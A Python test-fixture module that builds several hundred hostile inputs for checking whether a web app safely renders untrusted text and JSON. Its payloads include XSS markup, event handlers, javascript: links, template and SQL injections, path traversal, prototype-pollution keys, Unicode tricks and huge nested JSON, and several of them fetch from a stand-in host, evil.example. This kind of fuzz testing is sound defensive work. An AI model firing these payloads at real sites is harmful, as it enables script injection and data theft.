"""More than five hundred pieces of hostile data, as an attacker or a broken provider puts them into a run.

What could be executed sets the global variable `CANARY`, opens a dialog or calls another host.
"""

import itertools
from collections.abc import Sequence

from tests.browser.visitor import CANARY
from tests.examples import all_wanted

_SET = f"window.{CANARY}=1"
_CODE = (_SET, f"alert('{CANARY}')", "fetch('//evil.example/')", "import('//evil.example/x.js')")
_BREAKS = ("", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "`", "</svg>")
_MARKUP = (
    "<script>{code}</script>",
    "<ScRiPt\t>{code}//</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={code}>",
    '<svg/onload="{code}">',
    "<svg><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    '<math><mi//xlink:href="javascript:{code}">',
    '<iframe srcdoc="<script>parent.{code}</script>"></iframe>',
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{{background:url(//evil.example)}}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=key autofocus onfocus={code}></form>",
    "<template><script>{code}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={code}>">',
    '<a href="javascript:{code}">click</a>',
)
_HANDLERS = (
    *("load", "error", "click", "focus", "focusin", "blur", "mouseover", "pointerenter", "keydown", "input"),
    *("change", "scroll", "wheel", "toggle", "animationstart", "transitionend", "paste", "beforecopy", "cut"),
    *("drag", "resize", "beforeinput", "select", "submit", "invalid", "pageshow", "hashchange", "message"),
    "unload",
)
_ELEMENTS = ("div", "input", "details open", "marquee", "video", "x-y")
_LINKS = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "java\tscript:{code}",
    "\x01javascript:{code}",
    "javascript&colon;{code}",
    "&#106;avascript:{code}",
    "vbscript:{code}",
    "data:text/html,<script>{code}</script>",
    "[click](javascript:{code})",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    'https://evil.example/" onmouseover="{code}',
    "//evil.example/x.js",
    "file:///etc/passwd",
)
_TEMPLATES = (
    "{{{{constructor.constructor('{code}')()}}}}",
    "${{{code}}}",
    "#{{{code}}}",
    "<%= {code} %>",
    "{{% raw %}}{code}{{% endraw %}}",
    "[[{code}]]",
    "{{{{ config }}}}",
    "%s %d %n %x %$1n",
    "{{0.__class__.__mro__}}",
    "$& $1 $` $'",
)
_TEXTS = (
    *("", " ", "\n", "\r\n" * 40, "\t" * 40, "\x00", "a\x00b", "\x00" * 100),
    *("\x07\x08\x1b[31mred\x1b[2J\x1b]0;title\x07", "\x7f\x80\x9f", "\u202egnp.exe"),
    *("\u202e" * 50 + "reversed", "\u2066\u2067\u2068 left open", "\u200f\u200e\u061c"),
    *("مرحبا shalom שלום 123", "\u200b\u200c\u200d\ufeff", "a\u200bb" * 100, "\u2028\u2029"),
    *("\ufffe\uffff", "e" + "\u0301" * 200, "Z̸̢̛̙͔͇̻͙a̶l̷g̵o̴" * 20, "👩‍👩‍👧‍👦" * 30),
    *("\U000e0041\U000e0042", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\ud800", "\udfff\ud800"),
    *("half \ud83d of a smile", "ﷺ﷽𒐫꧅", "ㅤ", "\u0131 \u0130 \u017f \u212a", "﹤script﹥", "null"),
    *("undefined", "NaN", "true", "-1", "1e309", "0x41", "[object Object]", "__proto__"),
    *("constructor", "hasOwnProperty", "toString", "../../../../etc/passwd", "a/b?c=d#e&f=%00"),
    *("%2e%2e%2f%00", "%", "' OR 1=1 --", "\\", "\\u0000", '"', "'", "x" * 5_000),
    *("no end " * 2_000, "<" * 3_000, "&" * 3_000),
)

BIG = "w" * 1_000_000
"""A word of a megabyte."""

DEPTH = 10_000

TOGETHER = 10
"""So many texts are in one step, which is one visit of its panel."""


def _by_form() -> list[tuple[Sequence[str], int]]:
    """The payloads that are text, and how many of them at least are of one form, one after the other."""
    markup = [
        before + form.format(code=code)
        for number, form in enumerate(_MARKUP)
        for before, code in itertools.islice(
            zip(itertools.cycle(_BREAKS), itertools.cycle(_CODE), strict=False), number, number + len(_BREAKS)
        )
    ]
    handlers = [
        f"<{element} on{handler}={_CODE[number % 2]} tabindex=1 style=position:fixed;inset:0>"
        for number, (handler, element) in enumerate(itertools.product(_HANDLERS, _ELEMENTS))
    ]
    links = [form.format(code=code) for form in (*_LINKS, *_TEMPLATES) for code in _CODE[:2]]
    return [(_TEXTS, 1), (links, 2), (handlers, 5), (markup, 9)]


def texts() -> list[str]:
    """Each of them once: fit for every field that holds a name or a message."""
    return list(dict.fromkeys(each for found, _ in _by_form() for each in found))


def kinds() -> list[str]:
    """Some of each form; all where all examples are wanted."""
    if all_wanted():
        return texts()
    return list(dict.fromkeys(each for found, alike in _by_form() for each in found[::alike]))


def structures() -> list[str]:
    """The payloads that are more than text, as JSON: deep, wide, long, with odd keys and numbers."""
    deep_list = "[" * DEPTH + "9007199254740993" + "]" * DEPTH
    deep_object = '{"a":' * DEPTH + "1" + "}" * DEPTH
    numbers = ["1e308", "-0", "0.1", "9007199254740993", "123456789" * 30, "1e-400", "1E400"]
    keys = ["__proto__", "constructor", "prototype", "toString", "valueOf", "then", "length", "key", "ref"]
    return [
        deep_list,
        deep_object,
        "[" + ",".join(numbers) + "]",
        *numbers,
        *(f'{{"{key}":{{"{CANARY}":1,"{key}":null}}}}' for key in keys),
        '{"a":1,"a":2}',
        '{"":""}',
        '{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror='
        + _SET
        + '>"}},"__v":1}',
        '{"constructor":null,"type":"script","props":{"children":"' + _SET + '"},"key":null,"ref":null}',
        "[" + ",".join(["0"] * 20_000) + "]",
        "{" + ",".join(f'"k{number}":{number}' for number in range(5_000)) + "}",
        '{"' + "k" * 100_000 + '":1}',
    ]
